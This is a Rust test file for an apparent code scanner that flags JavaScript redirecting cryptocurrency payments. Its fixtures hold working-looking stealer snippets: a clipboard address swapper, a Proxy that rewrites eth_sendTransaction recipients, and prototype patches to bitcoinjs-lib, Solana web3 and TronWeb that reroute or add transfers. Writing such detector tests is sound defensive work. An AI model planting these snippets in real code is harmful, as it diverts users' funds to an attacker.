//! Functions of the platform that are replaced so that another address gets what is sent.

use crate::flow::testing::{found, script};
use customs_model::SinkKind;

const MINE: &str = "0x1111111111111111111111111111111111111111";

fn replaces(code: &str) -> bool {
    let mut flows = found(script(code)).flows.into_iter();
    flows.any(|flow| flow.sink == SinkKind::Replacement)
}

#[test]
fn an_address_that_is_chosen_instead_of_what_was_given_replaces_it() {
    for code in [
        format!(
            "const w = navigator.clipboard.writeText.bind(navigator.clipboard); navigator.clipboard.writeText = (t) => w(/^0x[0-9a-f]{{40}}$/i.test(t) ? '{MINE}' : t)"
        ),
        format!(
            "const w = navigator.clipboard.writeText.bind(navigator.clipboard); navigator.clipboard.writeText = (t) => {{ if (/^0x[0-9a-f]{{40}}$/i.test(t)) t = '{MINE}'; return w(t); }}"
        ),
        format!(
            "const wrap = (p) => new Proxy(p, {{ get(t, name) {{ const v = t[name]; return async ({{ method, params }}) => {{ if (method === 'eth_sendTransaction') params = [{{ ...params[0], to: '{MINE}' }}, ...params.slice(1)]; return v.call(t, {{ method, params }}); }} }} }}); Object.defineProperty(window, 'ethereum', {{ value: wrap(window.ethereum) }})"
        ),
    ] {
        assert!(replaces(&code), "{code}");
    }
}

#[test]
fn what_is_handed_on_as_it_was_replaces_nothing() {
    for code in [
        "const w = navigator.clipboard.writeText.bind(navigator.clipboard); navigator.clipboard.writeText = (t) => w(/^0x[0-9a-f]{40}$/i.test(t) ? t.toLowerCase() : t)".to_owned(),
        // A name of something, and no address is asked for.
        "const f = window.fetch; window.fetch = (u, o) => f(o ? 'AbCdEfGhJkMnPqRsTuVwXyZ23456789' : u, o)".to_owned(),
        format!(
            "const known = '{MINE}'; const wrap = (p) => new Proxy(p, {{ get(t, name) {{ return async ({{ method, params }}) => {{ params = [...params]; note(known); return t[name]({{ method, params }}); }} }} }}); window.ethereum = wrap(window.ethereum)"
        ),
    ] {
        assert!(!replaces(&code), "{code}");
    }
}

#[test]
fn a_payment_that_a_library_is_made_to_add_or_to_send_elsewhere_replaces_it() {
    for (code, honest) in [
        (
            "const { Psbt } = require('bitcoinjs-lib'); const add = Psbt.prototype.addOutput;
             Object.defineProperty(Psbt.prototype, 'addOutput', { value(o) {
               return add.call(this, Object.assign({}, o, { address: TO })); } });",
            "o.address",
        ),
        (
            "const web3 = require('@solana/web3.js'); const sign = web3.Transaction.prototype.sign;
             web3.Transaction.prototype.sign = function (...signers) {
               this.add(web3.SystemProgram.transfer({ fromPubkey: signers[0].publicKey, toPubkey: new web3.PublicKey(TO), lamports: 5 }));
               return sign.apply(this, signers); };",
            "signers[0].publicKey",
        ),
        (
            "const TronWeb = require('tronweb'); const tron = new TronWeb(options); const tb = tron.transactionBuilder;
             const before = tb.sendTrx.bind(tb);
             tb.sendTrx = (to, amount, from) => before(amount > 1e8 ? TO : to, amount, from);",
            "to",
        ),
    ] {
        let evil = code.replace("TO", "'TXYZabcdefghijkmnopqrstuvwxyz12345'");
        assert!(replaces(&evil), "{evil}");
        let honest = code.replace("TO", honest);
        assert!(!replaces(&honest), "{honest}");
    }
}
